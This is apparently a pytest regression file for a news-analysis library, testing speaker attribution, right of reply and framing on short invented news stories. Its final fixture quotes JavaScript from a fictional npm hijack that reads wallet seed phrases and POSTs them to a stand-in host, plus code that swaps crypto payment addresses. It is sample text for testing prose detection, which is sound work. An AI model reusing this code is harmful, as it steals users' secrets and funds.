"""Review 6: wrong results a careful user would hit after today's merges (right of reply, pronouns,
actor words v2, prose refusal, frame-cue proper-name rule). Each case is short news text written for
this review, its expectation checked by hand. Each was written as xfail(strict=True) while it failed;
the fixes landed and the markers were removed, so they now guard against a return of the errors."""

from __future__ import annotations

import pytest

from analysis import load_article
from analysis.actors import find_actors
from analysis.framing import analyze_framing
from analysis.pipeline import analyze
from analysis.sourcing import analyze_sourcing

# --------------------------------------------------------------------------------------------
# Actor words v2: trade nouns before a name ("producer", "publisher", "contractor") now make the
# person an organisation; right of reply then stops matching "Royce" / "Bell" to the accused.

PRODUCER = (
    "Film producer Harvey Weinstein and publisher Rupert Murdoch attended the hearing, where prosecutors "
    "accused producer Dan Royce of fraud. Royce denied the charges. \"I did nothing wrong,\" Royce said."
)


def test_trade_noun_before_a_person_keeps_a_person() -> None:
    mentions = find_actors(load_article(PRODUCER, headline="Producer charged in fraud case")).mentions
    kinds = {m.actor: m.kind for m in mentions}
    assert kinds["Harvey Weinstein"] == "person"
    assert kinds["Rupert Murdoch"] == "person"
    assert kinds["Dan Royce"] == "person"


def test_sentence_initial_trade_word_is_no_actor() -> None:
    mentions = find_actors(load_article(PRODUCER, headline="Producer charged in fraud case")).mentions
    assert "Film" not in {m.actor for m in mentions}


def test_accused_producer_who_denies_is_heard() -> None:
    result = analyze_sourcing(load_article(PRODUCER, headline="Producer charged in fraud case"))
    reply = next(r for r in result.right_of_reply if r.party == "Dan Royce")
    assert reply.kind == "person"
    assert reply.verdict == "heard"  # quoted ("I did nothing wrong"), not only a reported denial
    assert reply.heard


def test_accused_contractor_who_answers_is_heard() -> None:
    text = "Auditors accused contractor Jim Bell of overbilling the county by $2 million. Bell said the audit was wrong."
    result = analyze_sourcing(load_article(text, headline="Contractor accused of overbilling"))
    reply = next(r for r in result.right_of_reply if r.party == "Jim Bell")
    assert reply.kind == "person"
    assert reply.heard and reply.verdict == "heard"


# --------------------------------------------------------------------------------------------
# The `unresolved` speaker type crashes the CLI summary (and anything calling key_findings).


def test_key_findings_with_an_unresolved_pronoun_speaker() -> None:
    from analysis.report.findings import key_findings

    result = analyze(load_article('"We miss her," he said.', headline="Vigil held"))
    findings = key_findings(result)
    assert any("attribution" in f for f in findings)


def test_cli_analyze_a_brief_with_only_a_pronoun_speaker(tmp_path, capsys) -> None:
    from analysis.cli import main

    path = tmp_path / "vigil.txt"
    path.write_text('Vigil held\n\n"We miss her," he said.\n', encoding="utf-8")
    assert main(["analyze", str(path)]) in (0, None)


def test_headline_names_the_she_speaker() -> None:
    body = '"We will rebuild every house," she told reporters on Tuesday.'
    article = load_article(body, headline="Mayor Lena Ortiz: 'We will rebuild'")
    result = analyze_sourcing(article)
    assert [(s.speaker_type, s.name, s.title, s.official) for s in result.sources] == [("named_person", "Lena Ortiz", "Mayor", True)]


def test_headline_with_two_persons_or_the_other_gender_names_no_pronoun_speaker() -> None:
    body = '"We will rebuild every house," she told reporters on Tuesday.'
    two = analyze_sourcing(load_article(body, headline="Lena Ortiz and Tom Reyes tour the flood zone"))
    assert [s.speaker_type for s in two.sources] == ["unresolved"]
    other = analyze_sourcing(load_article(body, headline="Mayor John Ortiz: 'We will rebuild'"))
    assert [s.speaker_type for s in other.sources] == ["unresolved"]


# --------------------------------------------------------------------------------------------
# Prose refusal: a council-results story with a Markdown results table is refused as "not prose".

_WARDS = ["Ashford", "Brampton", "Carlow", "Dunmore", "Eastleigh", "Fenwick", "Greystone", "Hartwell", "Ivybridge", "Jarrow",
          "Kelso", "Langley", "Marston", "Newbury", "Oakham", "Penrith", "Quarry Bank", "Redhill", "Stanton", "Thornbury"]
_ROWS = "\n".join(
    f"| {w} | {30 + i % 17}% | {25 + (i * 3) % 20}% | {5 + i % 9}% | {(i * 37) % 9000 + 1000:,} |" for i, w in enumerate(_WARDS)
)
RESULTS_TABLE = f"""Council election results: Labour holds the county, Greens gain three seats

Labour kept control of the county council on Friday after a night of counting, losing two seats to the Greens but holding \
its majority. Turnout was 34 per cent, down four points on the last election.

| Ward | Labour | Conservative | Green | Majority |
|------|--------|--------------|-------|----------|
{_ROWS}

Council leader Sarah Mills said the result was "a clear vote of confidence". The Green group leader, Tom Patel, said his \
party had "broken through in the towns". The new council meets for the first time on Tuesday.
"""


def test_results_story_with_a_markdown_table_is_read() -> None:
    article = load_article(RESULTS_TABLE)
    assert "Sarah Mills" in article.body


# --------------------------------------------------------------------------------------------
# Framing proper-name rule: a capitalised declared emergency is still an emergency.


def test_capitalised_state_of_emergency_is_urgent() -> None:
    text = "The governor declared a State of Emergency on Friday as floodwater rose across the county."
    assert analyze_framing(load_article(text, headline="Report"), thresholds={"RS5": 1}).item("RS5").answer


def test_capitalised_national_emergency_is_urgent() -> None:
    text = "President Biden declared a National Emergency on Friday over the shortage of baby formula."
    assert analyze_framing(load_article(text, headline="Report"), thresholds={"RS5": 1}).item("RS5").answer


# --------------------------------------------------------------------------------------------
# Right of reply: an organisation accused and answering by its generic noun.


def test_accused_trust_denies() -> None:
    text = "Inspectors accused Northfield Health Trust of failing patients. The trust denied the claims."
    result = analyze_sourcing(load_article(text, headline="Hospital trust accused of failing patients"))
    reply = next(r for r in result.right_of_reply if r.party == "Northfield Health Trust")
    assert reply.verdict == "denied"


def test_nhs_trust_is_the_accused_party_not_the_country() -> None:
    text = ("The Care Quality Commission accused the Northfield NHS Trust of failing patients. "
            "A spokesman for the trust said it was already making changes.")
    result = analyze_sourcing(load_article(text, headline="Watchdog criticises NHS trust"))
    parties = [r.party for r in result.right_of_reply]
    assert "United Kingdom" not in parties
    assert any("Northfield" in p for p in parties)


# --------------------------------------------------------------------------------------------
# The noun rule for cue verbs ("in three states"): "of two" counts the children, not the verb.


def test_mother_of_two_says_is_an_attribution() -> None:
    body = "The mother of two says the school ignored her complaints for months."
    result = analyze(load_article(body, headline="Parents fight school over bullying"))
    assert [(a.speaker, a.cue) for a in result.sourcing.attributions] == [("The mother of two", "says")]


# --------------------------------------------------------------------------------------------
# Actor words v2 name words and titles v4 offices.


def test_a_person_surnamed_register_is_a_person() -> None:
    article = load_article("Anna Register, a nurse in Des Moines, said the ward was full.", headline="Report")
    assert [(s.name, s.speaker_type) for s in analyze_sourcing(article).sources] == [("Anna Register", "named_person")]
    assert [(m.actor, m.kind) for m in find_actors(article).mentions] == [("Anna Register", "person")]


def test_a_firms_comptroller_is_no_official() -> None:
    article = load_article("Maria Diaz, the comptroller at Acme Industries, said profits had fallen.", headline="Report")
    source = analyze_sourcing(article).sources[0]
    assert source.affiliation == "Acme Industries"
    assert source.official is False


def test_aaron_judge_is_no_official() -> None:
    article = load_article("Yankees slugger Aaron Judge said the team would bounce back.", headline="Report")
    source = analyze_sourcing(article).sources[0]
    assert source.name == "Aaron Judge"
    assert source.official is False


# --------------------------------------------------------------------------------------------
# Right of reply: accusation forms the check does not read (pre-existing, not from today's merges).


def test_alleged_price_fixing_names_an_accused_party() -> None:
    text = ("Prosecutors allege that Corvin Chemicals fixed prices for a decade. "
            "Corvin Chemicals said it would fight the charges in court.")
    result = analyze_sourcing(load_article(text, headline="Firm accused of price fixing"))
    assert [(r.party, r.verdict) for r in result.right_of_reply] == [("Corvin Chemicals", "heard")]


def test_accused_firm_is_an_organisation() -> None:
    text = "Residents blamed Northgate Power for the blackout. Northgate Power spokesman Ed Lim said the storm was to blame."
    result = analyze_sourcing(load_article(text, headline="Blackout blamed on utility"))
    reply = next(r for r in result.right_of_reply if r.party == "Northgate Power")
    assert reply.verdict == "heard"
    assert reply.kind == "organisation"


def test_he_after_an_accusation_is_the_accused_man() -> None:
    text = ("Senator Ruth Abrams accused Governor Mark Delaney of covering up a report on nursing homes. "
            "He said the report was never hidden.")
    result = analyze_sourcing(load_article(text, headline="Senator accuses governor of cover-up"))
    assert [s.speaker_type for s in result.sources] == ["named_person", "named_person"]
    reply = next(r for r in result.right_of_reply if r.party == "Mark Delaney")
    assert reply.verdict == "heard"


# --------------------------------------------------------------------------------------------
# Target tone (model, pre-existing in the old model too): the crime word outweighs what happens to the person.


def test_acquitted_man_is_not_negative() -> None:
    from analysis.sentiment.target import tone_toward

    sentence = "The court acquitted Ahmed Khan of murder."
    start = sentence.index("Ahmed Khan")
    assert tone_toward(sentence, start, start + len("Ahmed Khan")).label != "negative"


def test_man_who_killed_three_is_negative() -> None:
    from analysis.sentiment.target import tone_toward

    sentence = "Ahmed Khan, who killed three people in 2019, was released on Monday."
    assert tone_toward(sentence, 0, len("Ahmed Khan")).label == "negative"


# --------------------------------------------------------------------------------------------
# A missing closing quotation mark (a typo real copy has) hides every speaker after it in the paragraph.


def test_unclosed_quote_keeps_later_speakers() -> None:
    body = ("\u201cWe will not stop, said the mayor on Monday. The council voted 5-4 to approve the plan, "
            "and residents said they would appeal.")
    result = analyze(load_article(body, headline="Row over depot"))
    assert ("residents", "said") in [(a.speaker, a.cue) for a in result.sourcing.attributions]


# --------------------------------------------------------------------------------------------
# Actor words v2 reach sourcing: a person after a trade noun is counted as an institutional source.


@pytest.mark.parametrize(
    ("body", "name"),
    [
        pytest.param("Record producer Rick Rubin said the album was finished.", "Rick Rubin", id="record-producer"),
        pytest.param("The farm Tom Hale bought in 2019 flooded on Sunday, and Hale said he had lost 200 sheep.", "Hale",
                     id="the-farm-he-bought"),
        pytest.param("Software developer Anna Kim said the app leaked data.", "Anna Kim", id="developer-pre-existing"),
    ],
)
def test_person_after_a_trade_noun_is_a_named_source(body: str, name: str) -> None:
    sources = analyze_sourcing(load_article(body, headline="Report")).sources
    assert [s.speaker_type for s in sources] == ["named_person"]
    assert name in sources[0].name


# --------------------------------------------------------------------------------------------
# Right-of-reply phrasings (the new no-comment phrases and the verdict).

_CARVER = "Residents accused Carver Steel of dumping waste in the river. "


def test_no_answer_but_a_statement_is_heard() -> None:
    body = _CARVER + "Carver Steel did not answer questions about the river but said it was proud of its safety record."
    result = analyze_sourcing(load_article(body, headline="Carver Steel accused of dumping waste"))
    reply = next(r for r in result.right_of_reply if r.party == "Carver Steel")
    assert reply.verdict == "heard"


def test_unsuccessful_efforts_to_reach_are_sought_but_silent() -> None:
    body = _CARVER + "Efforts to reach Carver Steel were unsuccessful."
    result = analyze_sourcing(load_article(body, headline="Carver Steel accused of dumping waste"))
    reply = next(r for r in result.right_of_reply if r.party == "Carver Steel")
    assert reply.verdict == "sought_but_silent"


# --------------------------------------------------------------------------------------------
# HTML dates: a New Year's Day article whose page prints its date in words loses it to the
# "1 January backed only by a year" rule (89a2aff); before, its dateline was 2026-01-01.

NEW_YEAR_PAGE = """<!DOCTYPE html><html><head><title>Fireworks injure three as city welcomes 2026</title></head>
<body><header><a href="/">The Riverside Courier</a></header>
<article><h1>Fireworks injure three as city welcomes 2026</h1>
<p>THURSDAY, JANUARY 1, 2026</p>
<p>Three people were injured when a firework exploded in the crowd at the city's New Year's Eve celebration, police said on
Thursday. The injuries were not life-threatening, officials said.</p>
<p>About 40,000 people gathered on the waterfront to watch the midnight display. "It went off sideways into the crowd," said
witness Omar Hadi, who was standing near the stage with his children.</p>
<p>The city's events director, Paula Reyes, said the display contractor would be asked to explain what went wrong.</p>
</article><footer><p>&copy; 2026 The Riverside Courier. All rights reserved.</p></footer></body></html>
"""


def test_new_years_day_article_keeps_its_printed_date(tmp_path) -> None:
    page = tmp_path / "fireworks.html"
    page.write_text(NEW_YEAR_PAGE, encoding="utf-8")
    assert load_article(page).dateline == "2026-01-01"


# --------------------------------------------------------------------------------------------
# A headline role ("Coach accused of ...") given to a bystander who holds the same role.


@pytest.mark.parametrize(
    ("headline", "body", "accused"),
    [
        pytest.param("Coach accused of abuse",
                     "Former players accused basketball coach Dale Wynn of verbal abuse. "
                     "The team's new coach, Maria Ortiz, said she had not seen the complaints.", "Dale Wynn", id="new-coach"),
        pytest.param("Clerk accused of destroying records",
                     "Auditors accused county clerk Ann Webb of destroying election records. "
                     "The former clerk, Tom Hale, said the records had been missing for years.", "Ann Webb", id="former-clerk"),
    ],
)
def test_headline_role_is_the_person_the_body_accuses(headline: str, body: str, accused: str) -> None:
    result = analyze_sourcing(load_article(body, headline=headline))
    assert [r.party for r in result.right_of_reply] == [accused]


# --------------------------------------------------------------------------------------------
# Prose refusal: tech news quoting two short JavaScript snippets (19 lines of code, 4 paragraphs).

TECH_STORY = """Popular npm package hijacked to steal crypto wallets

A widely used JavaScript package was hijacked on Monday and made to steal cryptocurrency from the people who installed \
it, security researchers said. The package is downloaded about two million times a week.

Researchers at Socketline said the attacker added a few lines to the package's main file:

const wallets = ["metamask", "phantom", "exodus"];
for (const name of wallets) {
  const key = localStorage.getItem(`${name}:seed`);
  if (key) {
    fetch("https://collector.example/api", { method: "POST", body: JSON.stringify({ name, key }) });
  }
}
window.ethereum?.on("accountsChanged", (a) => { send({ a }); });

The researchers said a second file, loaded only on checkout pages, swapped the address a payment was sent to:

document.querySelectorAll("input[name=address]").forEach((el) => {
  el.addEventListener("change", () => {
    if (/^0x[a-f0-9]{40}$/i.test(el.value)) { el.value = ATTACKER; }
  });
});

"It is short, it is quiet, and it runs on every page that loads the library," said Ana Ruiz, a researcher at \
Socketline. The maintainer said his account had been taken over through a phishing email and that a clean version had \
been published.
"""


def test_security_story_quoting_code_is_read() -> None:
    article = load_article(TECH_STORY)
    assert "Ana Ruiz" in article.body
